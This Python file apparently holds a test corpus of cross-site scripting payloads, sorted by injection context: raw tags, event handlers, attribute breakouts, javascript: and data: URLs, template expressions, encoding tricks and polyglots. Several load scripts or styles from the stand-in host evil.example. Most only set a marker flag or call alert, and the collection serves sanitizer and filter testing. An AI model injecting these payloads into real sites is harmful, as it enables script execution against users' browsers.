"""Texts that run as a script where a page puts them into itself as anything but text.

Each sets `window.__xss`, opens a dialog, or fetches from a host that is not ours. They go by kinds of place:
between tags, in an attribute, in an address, in a script, in a template, and what decoders and filters make
of them.
"""

_SET = "window.__xss=1"
_CODES = "".join(f"&#{ord(sign)};" for sign in "alert(1)")

_TAGS = (
    f"<script>{_SET}</script>",
    f"<ScRiPt >{_SET}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{_SET}</script>",
    f"<scr<script>ipt>{_SET}</scr</script>ipt>",
    f"</title><script>{_SET}</script>",
    f"</textarea><script>{_SET}</script>",
    f"</script><script>{_SET}</script>",
    f"</style></head><body onload={_SET}>",
    f"--><script>{_SET}</script><!--",
    f"<![CDATA[<script>{_SET}</script>]]>",
    f"<noscript><p title='</noscript><img src=x onerror={_SET}>'>",
    f"<plaintext><script>{_SET}</script>",
    "<iframe srcdoc='&lt;script&gt;parent.__xss=1&lt;/script&gt;'></iframe>",
    "<iframe src=javascript:parent.__xss=1></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=javascript:alert(1)><button autofocus>Send</button></form>",
)

_HANDLERS = (
    f"<img src=x onerror={_SET}>",
    f"<img/src='x'/onerror='{_SET}'>",
    f"<img src=x:x onerror\n=\n{_SET}>",
    f"<image href=x onerror={_SET}>",
    f"<svg onload={_SET}>",
    f"<svg/onload={_SET}//",
    f"<svg><script>{_SET}</script></svg>",
    f"<svg><animate onbegin={_SET} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>text</text></a></svg>",
    f"<math><mtext><img src=x onerror={_SET}></mtext></math>",
    f"<body onpageshow={_SET}>",
    f"<details open ontoggle={_SET}>",
    f"<input autofocus onfocus={_SET}>",
    f"<video><source onerror={_SET}></video>",
    f"<audio src=x onerror={_SET}>",
    f"<marquee onstart={_SET}>",
    f"<div style=animation-name:x onanimationstart={_SET}>",
    f"<p onpointerover={_SET} style=position:fixed;inset:0>over all</p>",
    f"<img src=x onerror={_CODES}>",
)

_ATTRIBUTES = (
    f'"><img src=x onerror={_SET}>',
    f"'><img src=x onerror={_SET}>",
    f'" autofocus onfocus={_SET} x="',
    f"' onpointerover={_SET} x='",
    f"` onload={_SET} x=`",
    "x onerror=alert(1) src=x",
)

_ADDRESSES = (
    f"javascript:{_SET}",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " \x01javascript:alert(1)",
    "javascript://shop.example/%0aalert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "vbscript:msgbox(1)",
    "//evil.example/%2e%2e",
    "https:/\\evil.example/",
)

_SCRIPTS_AND_TEMPLATES = (
    f"';{_SET};//",
    f'\\";{_SET};//',
    f"${{{_SET}}}",
    f"{{{{constructor.constructor('{_SET}')()}}}}",
    f"{{{{{_SET}}}}}",
    f"<%= {_SET} %>",
    "#{alert(1)}",
    "__proto__",
    "\u2028alert(1)\u2029",
    '{"$$typeof":"react.element","type":"script","props":{"children":"alert(1)"}}',
)

_CODINGS = (
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    f"<\u0130mg src=x onerror={_SET}>",
    f"<\x00script>{_SET}</script>",
    f"\u202e<img src=x onerror={_SET}>\u202c",
    f"\ud800<img src=x onerror={_SET}>",
    f"\ufeff<img src=x onerror={_SET}>",
    f"\x1b]8;;javascript:alert(1)\x07<b onclick={_SET}>click</b>\x1b]8;;\x07",
)

_POLYGLOTS = (
    f"javascript:/*--></title></style></textarea></script><svg/onload='{_SET}'>//",
    f"'\">--></script><img src=x onerror={_SET}><!--{{{{7*7}}}}${{7*7}}",
)

PAYLOADS = (
    *_TAGS, *_HANDLERS, *_ATTRIBUTES, *_ADDRESSES, *_SCRIPTS_AND_TEMPLATES, *_CODINGS, *_POLYGLOTS,
)  # fmt: skip
